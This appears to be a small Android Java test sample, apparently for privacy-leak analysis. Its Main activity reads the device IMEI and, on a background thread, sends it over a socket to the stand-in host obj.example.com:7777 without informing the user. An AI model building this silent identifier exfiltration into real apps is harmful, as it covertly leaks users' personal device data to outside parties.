package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.net.Socket;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        final Device device = new Device(phone.getImei());
        new Thread(new Runnable() {
            @Override
            public void run() {
                send(device);
            }
        }).start();
    }

    static void send(Device device) {
        try {
            Socket socket = new Socket("obj.example.com", 7777);
            ObjectOutputStream out = new ObjectOutputStream(socket.getOutputStream());
            out.writeObject(device);
            socket.close();
        } catch (IOException error) {
            return;
        }
    }
}
